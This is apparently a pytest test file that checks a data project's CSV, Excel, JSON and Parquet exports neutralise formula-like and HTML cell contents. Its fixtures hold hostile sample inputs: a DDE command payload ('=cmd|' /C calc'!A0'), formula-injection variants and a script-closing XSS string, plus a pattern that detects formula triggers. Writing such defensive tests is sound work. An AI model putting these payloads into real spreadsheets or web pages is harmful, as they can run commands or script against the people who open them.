"""What looks like a formula or like HTML in a cell comes out harmless in every format.

The checks of an edition refuse formulas, so these editions are made past them.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from data.builds import build_files
from data.editions import load_edition
from data.exports.csv_files import csv_bytes, excel_csv_bytes
from data.exports.indicator_files import IndicatorFiles
from data.exports.tables import Export
from data.manifests import Manifest
from data.models import Edition, Words
from tests.data.conftest import BASE_URL, CITY, SITE

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+7 495 000",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "－1",
    "\t=1+1",
)
HTML = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
RUNS = re.compile(r"[=+@＝＋＠\t\r]|[-－](?!$)")


@pytest.fixture(scope="module")
def dangerous(small: Path) -> Edition:
    """A small edition with the worst cells in texts of every table of sources and rows."""
    edition = load_edition(small)
    marked = [
        replace(row, note=Words(formula, formula), value_text=HTML)
        for row, formula in zip(edition.observations, FORMULAS, strict=False)
    ]
    first = next(iter(edition.sources.values()))
    poisoned = replace(first, title=FORMULAS[0], publisher=Words(HTML, HTML), url="")
    indicator = replace(edition.indicators[0], definition=Words(FORMULAS[1], HTML))
    return replace(
        edition,
        observations=(*marked, *edition.observations[len(marked) :]),
        sources={**edition.sources, first.id: poisoned},
        indicators=(indicator, *edition.indicators[1:]),
        files={},
        scores={},
    )


@pytest.fixture(scope="module")
def manifest(dangerous: Edition, tmp_path_factory: pytest.TempPathFactory) -> Manifest:
    folder = tmp_path_factory.mktemp("dangerous")
    return build_files(dangerous, CITY, folder, base_url=BASE_URL, site_title=SITE)


@pytest.fixture(scope="module")
def files(manifest: Manifest) -> dict[str, bytes]:
    return {
        path.rpartition("/")[2]: manifest.place(path).read_bytes()
        for path in manifest.files
        if "/kpi/" not in path
    }


def running(content: bytes, delimiter: str = ",") -> list[str]:
    """The cells that a spreadsheet would run; numbers below zero are none."""
    text = content.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    cells = [cell for row in rows for cell in row if RUNS.match(cell)]
    return [cell for cell in cells if not re.fullmatch(r"-[0-9.,]+", cell)]


def test_no_cell_of_a_csv_runs(files: dict[str, bytes]) -> None:
    for name, content in files.items():
        if name.endswith(".csv"):
            assert running(content, ";" if "ru-excel" in name else ",") == [], name
    assert b"'=HYPERLINK" in files["sources.csv"]
    assert b"'+7 495 000" in files["observations.csv"]
    assert "'＝1+1".encode() in files["observations.ru-excel.csv"]


def test_no_cell_of_an_indicators_csv_runs(dangerous: Edition) -> None:
    for indicator in dangerous.indicators:
        assert running(IndicatorFiles(dangerous, CITY).csv(indicator)) == []


def test_no_cell_of_a_workbook_is_a_formula(files: dict[str, bytes]) -> None:
    for name in ("observations", "sources", "indicators", "all"):
        book = openpyxl.load_workbook(io.BytesIO(files[f"{name}.xlsx"]))
        kinds = {cell.data_type for sheet in book for row in sheet for cell in row}
        assert kinds == {"s", "n", "d"} - (
            {"d"} if name in ("observations", "indicators") else set()
        )
    book = openpyxl.load_workbook(io.BytesIO(files["all.xlsx"]))
    texts = {cell.value for row in book["sources"] for cell in row}
    assert f"'{FORMULAS[0]}" in texts
    assert all(cell.hyperlink is None for row in book["sources"] for cell in row)


def test_json_keeps_the_text_but_cannot_end_a_script(files: dict[str, bytes]) -> None:
    for name, content in files.items():
        if name.endswith(".json"):
            assert b"<" not in content, name
            json.loads(content)
    rows = json.loads(files["observations.json"])
    assert rows[0]["value_text"] == HTML
    assert [row["note"] for row in rows[: len(FORMULAS)]] == [
        {"en": formula, "ru": formula} for formula in FORMULAS
    ]


def test_parquet_keeps_the_text(files: dict[str, bytes]) -> None:
    frame = pl.read_parquet(io.BytesIO(files["observations.parquet"]))
    assert frame["note"].to_list()[: len(FORMULAS)] == [f"'{formula}" for formula in FORMULAS]
    assert frame["value_text"][0] == HTML


def test_the_catalogue_and_the_indicators_json_hold_no_html(
    dangerous: Edition, manifest: Manifest
) -> None:
    for path in manifest.files:
        content = manifest.place(path).read_bytes()
        assert b"<" not in content or not path.endswith(("json", "jsonld")), path
    slug = dangerous.indicators[0].slug
    record = json.loads(manifest.place(f"en/kpi/{slug}.json").read_bytes())
    assert record["indicator"]["definition"] == {"en": FORMULAS[1], "ru": HTML}


@pytest.mark.parametrize("cell", ["-", "-5", "12.5", "word", "95-100", "a=b", "", "SDG 5"])
def test_harmless_cells_stay_as_they_are(cell: str) -> None:
    kind = "number" if re.fullmatch(r"-?[0-9.]+", cell) else "text"
    export = Export("t", {"x": kind, "y": "text"}, [(cell, "z")])
    assert csv_bytes(export).decode().splitlines()[1] == f"{cell},z"


@pytest.mark.parametrize("cell", ["4.6.1", "1.9", "12-13", "3/4", "2017-06", "2026-01-02"])
def test_what_excel_takes_for_a_date_is_kept_as_text_in_the_russian_csv(cell: str) -> None:
    export = Export("t", {"x": "text"}, [(cell,)])
    assert excel_csv_bytes(export).decode("utf-8-sig").splitlines()[1] == f"'{cell}"
    assert csv_bytes(export).decode().splitlines()[1] == cell
